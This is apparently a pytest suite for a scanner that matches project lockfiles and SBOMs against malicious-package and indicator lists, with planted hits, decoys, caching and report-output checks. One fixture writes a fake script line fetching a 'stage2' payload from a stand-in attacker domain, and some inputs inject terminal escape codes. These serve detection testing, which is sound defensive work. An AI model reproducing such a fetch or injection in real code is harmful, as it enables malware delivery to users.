"""A hunt in folders that are built for it: known plants, decoys beside them, and everything that may be in the way."""

from __future__ import annotations

import json
import random
import zipfile
from collections.abc import Callable, Iterable, Sequence
from io import StringIO
from pathlib import Path
from typing import Any

import jsonschema_rs
import msgspec
import pytest

from scanner.feeds import lists
from scanner.matching.sieve import Traits
from scanner.model.campaign import Indicator, IndicatorType
from scanner.model.finding import State
from scanner.model.hunting import Hunt
from scanner.model.purl import Purl
from scanner.model.purl import parse as parse_purl
from scanner.parsers import by_name
from scanner.parsers.source import Source
from scanner.pipeline import hunt_lists, inventory_cache
from scanner.pipeline.hunt import Settings, hunt
from scanner.pipeline.inventory_cache import Cache
from scanner.reports import hunt_json, hunt_text
from tests.conftest import ROOT
from tests.factories import NOW

Package = tuple[str, str]


def run(list_: Path | Sequence[Path], target: Path | Sequence[Path], tmp_path: Path, **fields: Any) -> Hunt:
    """One hunt; `cache=` and the other settings as in `Settings`."""
    ecosystem = fields.pop("ecosystem", None)
    found = hunt_lists.read([list_] if isinstance(list_, Path) else list_, columns={}, ecosystem=ecosystem)
    settings = Settings(intel_directory=tmp_path / "intel", now=lambda: NOW, environ={}, home=tmp_path, **fields)
    return hunt(found, [target] if isinstance(target, Path) else target, settings)


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def package_lock(packages: Iterable[Package]) -> str:
    entries: dict[str, Any] = {"": {"name": "app", "version": "1.0.0", "dependencies": {}}}
    for name, version in packages:
        entries[""]["dependencies"][name] = version
        entries[f"node_modules/{name}"] = {"version": version, "integrity": "sha512-" + "A" * 86 + "=="}
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": entries}, indent=1)


def yarn_lock(packages: Iterable[Package]) -> str:
    blocks = [f'"{name}@^{version}":\n  version "{version}"\n' for name, version in packages]
    return "# yarn lockfile v1\n\n" + "\n".join(blocks)


def pnpm_lock(packages: Iterable[Package]) -> str:
    lines = ["lockfileVersion: '9.0'", "packages:"]
    known = list(packages)
    for name, version in known:
        lines += [f"  '{name}@{version}':", "    resolution: {integrity: sha512-" + "A" * 86 + "==}"]
    lines += ["snapshots:", *(f"  '{name}@{version}': {{}}" for name, version in known)]
    return "\n".join(lines) + "\n"


def requirements(packages: Iterable[Package]) -> str:
    return "".join(f"{name}=={version}\n" for name, version in packages)


def poetry_lock(packages: Iterable[Package]) -> str:
    return "".join(f'[[package]]\nname = "{name}"\nversion = "{version}"\n\n' for name, version in packages)


def cargo_lock(packages: Iterable[Package]) -> str:
    # Without a source it would be a member of the workspace.
    index = 'source = "registry+https://github.com/rust-lang/crates.io-index"'
    blocks = [f'[[package]]\nname = "{name}"\nversion = "{version}"\n{index}\n' for name, version in packages]
    return "version = 3\n\n" + "\n".join(blocks)


def composer_lock(packages: Iterable[Package]) -> str:
    return json.dumps({"packages": [{"name": name, "version": version} for name, version in packages]}, indent=1)


def gemfile_lock(packages: Iterable[Package]) -> str:
    return "GEM\n  specs:\n" + "".join(f"    {name} ({version})\n" for name, version in packages)


def go_mod(packages: Iterable[Package]) -> str:
    return "module example.invalid/app\n\ngo 1.22\n\n" + "".join(f"require {name} {v}\n" for name, v in packages)


def bom(type_: str) -> Callable[[Iterable[Package]], str]:
    def make(packages: Iterable[Package]) -> str:
        components = []
        for name, version in packages:
            space, _, last = name.rpartition("/")
            purl = str(Purl(type_, space or None, last, version))
            components.append({"type": "library", "name": name, "version": version, "purl": purl})
        return json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.6", "components": components}, indent=1)

    return make


FORMATS: dict[str, tuple[tuple[str, Callable[[Iterable[Package]], str]], ...]] = {
    "npm": (("package-lock.json", package_lock), ("yarn.lock", yarn_lock), ("pnpm-lock.yaml", pnpm_lock),
            ("bom.cdx.json", bom("npm"))),
    "pypi": (("requirements.txt", requirements), ("poetry.lock", poetry_lock), ("bom.cdx.json", bom("pypi"))),
    "cargo": (("Cargo.lock", cargo_lock),),
    "composer": (("composer.lock", composer_lock),),
    "gem": (("Gemfile.lock", gemfile_lock),),
    "golang": (("go.mod", go_mod),),
}  # fmt: skip


def _planted(indicators: Sequence[Indicator], chance: random.Random) -> dict[str, list[Package]]:
    """Purl type → versions that the lists call bad, taken at random among those listed one by one."""
    chosen: dict[str, list[Package]] = {}
    # Of these another version is no decoy: some list names them without versions, or means all of them.
    any_version = {one.value for one in indicators if one.type is IndicatorType.PACKAGE and one.versions is None}
    for one in chance.sample(list(indicators), len(indicators)):
        if one.type is not IndicatorType.PACKAGE or not one.versions or one.value in any_version:
            continue
        purl = parse_purl(one.value)
        picked = chosen.setdefault(purl.type, [])
        if purl.type in FORMATS and len(picked) < 120:
            name = purl.name if purl.namespace is None else f"{purl.namespace}/{purl.name}"
            picked.append((name, chance.choice(one.versions)))
    return {type_: picked for type_, picked in chosen.items() if picked}


def test_plants_from_the_published_lists_are_found_and_decoys_are_not(shared: Path, tmp_path: Path) -> None:
    """Done-when 2. Recall 100 %, no false hit: figures are asserted, not hoped for."""
    ioc = shared / "feeds" / "ioc"
    read = hunt_lists.read([ioc], columns={}, ecosystem=None)
    indicators = [one for reading in read.readings for one in reading.indicators]
    bad = {(parse_purl(one.value).type, parse_purl(one.value).name.lower()) for one in indicators
           if one.type is IndicatorType.PACKAGE}  # fmt: skip
    chance = random.Random(5)
    folder = tmp_path / "src"
    plants: set[tuple[str, str, str]] = set()
    decoys = 0
    for type_, picked in _planted(indicators, chance).items():
        for number in range(0, len(picked), 10):
            file, make = FORMATS[type_][(number // 10) % len(FORMATS[type_])]
            here = picked[number : number + 10]
            path = f"{type_}-{number}/{file}"
            good: list[Package] = []
            for name, version in here:
                plants.add((path, name.lower(), version))
                # The name as a part of another, and the same package at a version that nobody lists.
                good += [(f"{name}-decoy", version), (name, "77.66.55" if type_ != "golang" else "v77.66.55")]
                # The same name and version elsewhere.
                other = "gem" if type_ != "gem" else "cargo"
                if "/" not in name and (other, name.lower()) not in bad:
                    write(
                        folder / f"{type_}-{number}-{name}" / FORMATS[other][0][0],
                        FORMATS[other][0][1]([(name, version)]),
                    )
                    decoys += 1
            decoys += len(good)
            write(folder / path, make([*good[: len(good) // 2], *here]))
            write(folder / f"{type_}-{number}-good" / file, make(good))
    assert len(plants) > 200
    assert decoys > 400
    settings = Settings(
        intel_directory=tmp_path / "intel", now=lambda: NOW, environ={}, home=tmp_path, search_files=False
    )
    found = hunt(read, [folder], settings)
    hits = {
        (one.evidence[0].location.path, one.component.name.lower(), one.component.version)
        for one in found.report.findings
        if one.state is not State.NEAR_MISS and one.component is not None
    }
    missed, false = plants - hits, hits - plants
    print(f"{len(plants)} plants, {decoys} decoys: recall {1 - len(missed) / len(plants):.1%}, {len(false)} false hits")
    assert not missed
    assert not false
    assert found.report.exit_code == 1


def test_a_bare_name_is_never_certain(tmp_path: Path) -> None:
    write(tmp_path / "src/package-lock.json", package_lock([("left-pad", "1.3.0")]))
    found = run(write(tmp_path / "names.txt", "left-pad\n"), tmp_path / "src", tmp_path, ecosystem="npm")
    (finding,) = found.report.findings
    assert finding.state is State.POSSIBLE
    assert "without versions" in finding.reason
    assert found.report.exit_code == 1


@pytest.mark.parametrize(
    ("cell", "version", "state"),
    [
        ("0.2.0 to 0.2.6", "0.2.3", State.CERTAIN),
        ("0.2.0 to 0.2.6", "0.2.7", State.NEAR_MISS),
        ("<= 1.2.0", "1.0.0", State.CERTAIN),
        ("< 1.2.0", "1.2.0", State.NEAR_MISS),
        ("> 1.2.0", "1.2.1", State.CERTAIN),
        ("all", "9.9.9", State.CERTAIN),
        ("all versions except 1.0.0", "1.0.0", State.NEAR_MISS),
        ("all versions except 1.0.0", "1.0.1", State.CERTAIN),
        ("1.0.0, 1.0.1", "1.0.1", State.CERTAIN),
    ],
)
def test_versions_in_words_are_compared(cell: str, version: str, state: State, tmp_path: Path) -> None:
    write(tmp_path / "src/package-lock.json", package_lock([("left-pad", version)]))
    list_ = write(tmp_path / "x.csv", f'package,versions,ecosystem\nleft-pad,"{cell}",npm\n')
    (finding,) = run(list_, tmp_path / "src", tmp_path).report.findings
    assert finding.state is state


def test_a_requirement_that_admits_a_bad_version_is_possible(tmp_path: Path) -> None:
    write(tmp_path / "src/package.json", json.dumps({"name": "app", "dependencies": {"left-pad": "^1.0.0"}}))
    for cell, state in (("1.3.0", State.POSSIBLE), ("2.0.0", State.NEAR_MISS), (">=1.5", State.POSSIBLE)):
        list_ = write(tmp_path / "x.csv", f"package,versions,ecosystem\nleft-pad,{cell},npm\n")
        (finding,) = run(list_, tmp_path / "src", tmp_path).report.findings
        assert finding.state is state, cell


def test_an_extension_without_publisher_is_possible(tmp_path: Path) -> None:
    write(tmp_path / "src/.vscode/extensions.json", json.dumps({"recommendations": ["someone.cx-example"]}))
    list_ = write(tmp_path / "x.csv", "artifact_type,name,affected_versions\nopenvsx extension,cx-example,1.7.0\n")
    (finding,) = run(list_, tmp_path / "src", tmp_path).report.findings
    assert finding.state is State.POSSIBLE


def test_hashes_domains_and_strings_are_found_in_files_but_not_in_the_list_itself(tmp_path: Path) -> None:
    write(tmp_path / "src/vendor/x.min.js", "fetch('https://evil.invalid/stage2')")
    write(tmp_path / "src/bin/tool", "payload\n")
    digest = "a6c6ba84a0cb0e8a3a3d2e1a9f0c0c4a"
    list_ = write(tmp_path / "src/iocs.txt", f"evil[.]invalid\n{digest}\n")
    found = run(list_, tmp_path / "src", tmp_path)
    assert {one.evidence[0].location.path for one in found.report.findings} == {"vendor/x.min.js"}
    assert found.report.coverage.files_searched == 3
    assert not found.not_looked_for


def test_what_is_not_looked_for_is_said(tmp_path: Path) -> None:
    write(tmp_path / "src/package-lock.json", package_lock([("left-pad", "1.3.0")]))
    list_ = write(tmp_path / "x.txt", "a@evil.invalid\nother@1.0.0\n")
    found = run(list_, tmp_path / "src/package-lock.json", tmp_path)
    assert found.not_looked_for == {"email": 1}
    assert found.report.exit_code == 3
    assert run(list_, tmp_path / "src", tmp_path).report.exit_code == 0


def test_everybodys_registry_on_a_list_accuses_nobody(tmp_path: Path) -> None:
    from tests.support import registry_host

    host = registry_host("npm")
    lock = json.loads(package_lock([("left-pad", "1.3.0")]))
    lock["packages"]["node_modules/left-pad"]["resolved"] = f"https://{host}/left-pad/-/left-pad-1.3.0.tgz"
    write(tmp_path / "src/package-lock.json", json.dumps(lock))
    for name in (host, host.partition(".")[2]):
        found = run(write(tmp_path / "x.txt", f"{name}\n"), tmp_path / "src", tmp_path)
        assert not found.report.findings
        assert found.report.exit_code == 3
        assert any("everybody's packages" in problem.what for problem in found.report.coverage.problems)


def test_a_list_and_a_target_that_cannot_be_read_are_said(tmp_path: Path) -> None:
    write(tmp_path / "src/package-lock.json", "{")
    good = write(tmp_path / "lists/good.txt", "left-pad@1.0.0\n")
    write(tmp_path / "lists/binary.csv", b"\0\1\2" * 50)
    write(tmp_path / "lists/LICENSE", "words")
    found = run(good.parent, tmp_path / "src", tmp_path)
    assert found.report.exit_code == 3
    assert [one.name for one in found.lists] == [good.as_posix()]
    assert len(found.report.coverage.problems) == 2


def test_a_folder_and_a_zip_of_osv_records_are_one_list(tmp_path: Path) -> None:
    records = {
        f"MAL-2026-{number}.json": json.dumps(
            {"id": f"MAL-2026-{number}", "modified": "2026-01-01T00:00:00Z", "affected": [
                {"package": {"ecosystem": "npm", "name": f"evil-{number}"}, "versions": ["1.0.0"]}]}
        )
        for number in range(30)
    }  # fmt: skip
    for name, text in records.items():
        write(tmp_path / "osv" / name, text)
    with zipfile.ZipFile(tmp_path / "all.zip", "w") as archive:
        for name, text in records.items():
            archive.writestr(name, text)
    write(tmp_path / "src/package-lock.json", package_lock([("evil-7", "1.0.0"), ("evil-8", "2.0.0")]))
    for list_ in (tmp_path / "osv", tmp_path / "all.zip"):
        found = run(list_, tmp_path / "src", tmp_path)
        (state,) = found.lists
        assert (state.lines, state.understood, state.indicators) == (30, 30, {"package": 30})
        assert [one.state for one in found.report.findings] == [State.CERTAIN, State.NEAR_MISS]


def _padded(packages: Sequence[Package]) -> list[Package]:
    """Enough other packages around them for the file to be worth remembering."""
    return [*packages, *((f"benign-{number}", "1.0.0") for number in range(600))]


def test_what_is_remembered_gives_the_same_answer(tmp_path: Path) -> None:
    write(tmp_path / "src/a/package-lock.json", package_lock(_padded([("left-pad", "1.3.0"), ("near", "2.0.0")])))
    write(tmp_path / "src/b/requirements.txt", "-r base.txt\n" + requirements(_padded([])))
    base = write(tmp_path / "src/b/base.txt", "evil==1.0\n")
    list_ = write(tmp_path / "x.txt", "left-pad@1.3.0\n@s/other@1.0\nnear@1.0.0\npypi:evil:1.0\n")
    cache = Cache(tmp_path / "cache")
    first = run(list_, tmp_path / "src", tmp_path, cache=cache)
    again = run(list_, tmp_path / "src", tmp_path, cache=Cache(tmp_path / "cache"))
    none = run(list_, tmp_path / "src", tmp_path)
    assert (first.remembered, again.remembered) == (0, 2)
    assert first.report.findings == none.report.findings
    assert again.report.findings == none.report.findings
    assert again.report.coverage == none.report.coverage
    # A file that another one refers to has changed: what was read with it is out of date.
    base.write_text("evil==1.1\n")
    changed = run(list_, tmp_path / "src", tmp_path, cache=Cache(tmp_path / "cache"))
    assert changed.remembered == 1
    assert State.CERTAIN not in [one.state for one in changed.report.findings if one.component is not None
                                 and one.component.name == "evil"]  # fmt: skip


def test_a_moved_lockfile_is_remembered_under_its_new_name(tmp_path: Path) -> None:
    write(tmp_path / "src/a/package-lock.json", package_lock(_padded([("left-pad", "1.3.0")])))
    list_ = write(tmp_path / "x.txt", "left-pad@1.3.0\n@s/o@1\n")
    cache = Cache(tmp_path / "cache")
    run(list_, tmp_path / "src", tmp_path, cache=cache)
    (tmp_path / "src/a").rename(tmp_path / "src/elsewhere")
    found = run(list_, tmp_path / "src", tmp_path, cache=cache)
    assert found.remembered == 1
    assert found.report.findings[0].evidence[0].location.path == "elsewhere/package-lock.json"
    assert found.report.findings[0].evidence[0].location.line is not None


@pytest.mark.parametrize("damage", [b"", b"\x00", b"\x92\x01", b"{}"])
def test_a_damaged_entry_is_read_anew(damage: bytes, tmp_path: Path) -> None:
    write(tmp_path / "src/package-lock.json", package_lock(_padded([("left-pad", "1.3.0")])))
    list_ = write(tmp_path / "x.txt", "left-pad@1.3.0\n@s/o@1\n")
    run(list_, tmp_path / "src", tmp_path, cache=Cache(tmp_path / "cache"))
    (entry,) = (path for path in (tmp_path / "cache").rglob("*") if path.is_file())
    entry.write_bytes(damage)
    found = run(list_, tmp_path / "src", tmp_path, cache=Cache(tmp_path / "cache"))
    assert (found.remembered, len(found.report.findings)) == (0, 1)


def test_the_cache_is_bounded_and_is_not_used_where_others_may_write(tmp_path: Path) -> None:
    parser = by_name("npm-package-lock")
    cache = Cache(tmp_path / "cache", most=50_000)
    for number in range(40):
        source = Source(path="package-lock.json", data=package_lock(_padded([(f"p{number}", "1.0.0")])).encode())
        entry = inventory_cache.remember(
            _reading(parser, source),
            (),
            msgspec.convert(((), (), (), {}, {}, {}), Traits),
            0,
            {str(n): "x" * 100 for n in range(30)},
        )
        cache.keep(parser, source, entry)
    cache.prune()
    assert 0 < sum(path.stat().st_size for path in (tmp_path / "cache").rglob("*") if path.is_file()) <= 50_000
    (tmp_path / "open").mkdir(mode=0o777)
    (tmp_path / "open").chmod(0o777)
    assert not Cache(tmp_path / "open").usable


def _reading(parser: Any, source: Source) -> Any:
    from scanner.pipeline.inventory import parse_source

    return parse_source(parser, source, bytes)


def test_the_answers_are_written(tmp_path: Path) -> None:
    write(tmp_path / "src/package-lock.json", package_lock([("axios", "1.14.1"), ("near\x1b[31m", "1.0.0")]))
    list_ = write(tmp_path / "x.csv", "name,version,ecosystem\naxios,1.14.1,npm\n\x1b[2Jodd name,1,npm\n")
    found = run(list_, tmp_path / "src", tmp_path)
    out = StringIO()
    hunt_json.write(found, out)
    body = json.loads(out.getvalue())
    _validate(body)
    assert [hit["component"]["purl"] for hit in body["hits"]] == ["pkg:npm/axios@1.14.1"]
    assert body["lists"][0]["not_understood"] == 1
    text = StringIO()
    hunt_text.write(found, text)
    assert "HIT: 1 certain" in text.getvalue()
    assert "\x1b" not in text.getvalue()


def _validate(body: Any) -> None:
    folder = ROOT / "docs" / "schemas"
    hunt_schema, report_schema = (
        json.loads((folder / f"pratique-{name}-1.schema.json").read_text()) for name in ("hunt", "report")
    )
    registry = jsonschema_rs.Registry([(report_schema["$id"], report_schema)])
    jsonschema_rs.validator_for(hunt_schema, registry=registry, validate_formats=True).validate(body)


def test_every_line_is_told_in_a_dry_run(tmp_path: Path) -> None:
    reading = lists.read(b"axios@1.14.1\n# words\ntwo words\x1b\n", name="x.txt")
    from scanner.pipeline.hunt_told import state

    out = StringIO()
    hunt_text.write_reading([reading], [state(reading)], out)
    assert "      1  package pkg:npm/axios version 1.14.1" in out.getvalue()
    assert "      3  NOT UNDERSTOOD" in out.getvalue()
    assert "\x1b" not in out.getvalue()
    as_json = StringIO()
    hunt_json.write_reading([reading], [state(reading)], [], as_json)
    _validate(json.loads(as_json.getvalue()))
